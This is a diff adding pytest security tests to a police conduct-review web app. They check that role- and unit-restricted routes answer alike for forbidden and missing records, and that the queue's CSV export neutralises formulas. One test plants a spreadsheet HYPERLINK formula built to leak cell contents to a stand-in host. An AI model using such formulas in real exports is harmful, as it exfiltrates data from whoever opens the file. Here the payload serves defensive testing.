@@ -39,7 +39,7 @@ def world(tmp_path_factory):
 
 @pytest.fixture(scope="module")
 def client(world):
-    with TestClient(create_app(world.url, KEY, SETTINGS)) as test_client:
+    with TestClient(create_app(world.url, KEY, SETTINGS, vault_key_file=world.vault_key_file)) as test_client:
         yield test_client
 
 
@@ -249,6 +249,66 @@ def test_an_officer_the_role_may_not_see_answers_as_a_missing_one(client, world,
     missing = client.get(f"/api/officers/{MISSING_OFFICER}", headers=_token(world, name))
     assert existing.status_code == status
     _same_answer(existing, missing, known, MISSING_OFFICER)
+
+
+# The routes of the review queue (issue 20): a welfare prompt is a flag a conduct reader may not
+# know of, a conduct flag one a welfare account may not; an officer outside a reviewer's units
+# is as unknown on the records page and to reveal as on the profile.
+NEW_ROUTES = {
+    "welfare prompt, conduct reviewer": ("rita", "GET", lambda w: f"/api/flags/{w.welfare_flag}", None, 404),
+    "welfare prompt, analyst": ("ana", "GET", lambda w: f"/api/flags/{w.welfare_flag}", None, 404),
+    "conduct flag, welfare account": ("wendy", "GET", lambda w: f"/api/flags/{w.flags_a[1]}", None, 404),
+    "conduct outcome, welfare account": ("wendy", "POST", lambda w: f"/api/flags/{w.flags_a[1]}/outcome",
+                                         {"outcome": "completed", "note": "attack suite"}, 404),
+    "amend, analyst": ("ana", "POST", lambda w: f"/api/flags/{w.flags_a[1]}/amend",
+                       {"decision": "no_action", "rationale": "attack suite", "reason": "attack suite",
+                        "version": 1}, 403),
+    "records, reviewer of another unit": ("rosa", "GET", lambda w: f"/api/officers/{w.officer_self}/records", None,
+                                          404),
+    "records, auditor": ("aude", "GET", lambda w: f"/api/officers/{w.officer_self}/records", None, 403),
+    "reveal, reviewer of another unit": ("rosa", "POST", lambda w: f"/api/officers/{w.officer_self}/reveal",
+                                         {"reason": "attack suite: who is it?"}, 404),
+    "reveal, analyst": ("ana", "POST", lambda w: f"/api/officers/{w.officer_self}/reveal",
+                        {"reason": "attack suite: who is it?"}, 403),
+}
+
+
+@pytest.mark.parametrize("kind", list(NEW_ROUTES))
+def test_the_queue_routes_answer_alike_for_missing_and_forbidden(client, world, kind):
+    name, method, path_of, body, status = NEW_ROUTES[kind]
+    path = path_of(world)
+    known = path.split("/")[3]
+    missing_id = MISSING_FLAG if path.startswith("/api/flags/") else MISSING_OFFICER
+    before = sum(e.outcome == "denied" for e in _entries(world))
+    existing = client.request(method, path, json=body, headers=_token(world, name))
+    missing = client.request(method, path.replace(known, missing_id), json=body, headers=_token(world, name))
+    assert existing.status_code == status, existing.text
+    _same_answer(existing, missing, known, missing_id)
+    assert sum(e.outcome == "denied" for e in _entries(world)) > before  # refused, and on the record
+
+
+def test_the_queue_csv_holds_no_cell_a_spreadsheet_would_run(client, world):
+    """Explanations and units come from the force's data: in the queue's CSV export each goes
+    through openeis.csv_safety like every other CSV the system writes."""
+    import csv
+    import io
+
+    formula = '=HYPERLINK("http://x.example/?leak="&A1,"open")'
+    first = client.get("/api/flags", headers=_token(world, "admin")).json()["flags"][0]
+    explanation = {**first["explanation"], "sentences": [formula, "@SUM(A1:A9)"]}
+    store = open_store(world.url)
+    try:
+        store.execute("UPDATE flags SET explanation = ? WHERE flag_id = ?", [json.dumps(explanation), first["flag_id"]])
+    finally:
+        store.close()
+    _as(client, world, "admin")
+    response = client.get("/queue.csv")
+    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert ["'" + formula] == [cell for row in rows for cell in row if formula in cell]
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [cell for row in rows for cell in row
+                if cell.startswith("-") and not re.fullmatch(r"-[0-9.e-]+", cell)]  # negative numbers stay numbers
 
 
 def _another_officer(world) -> str:
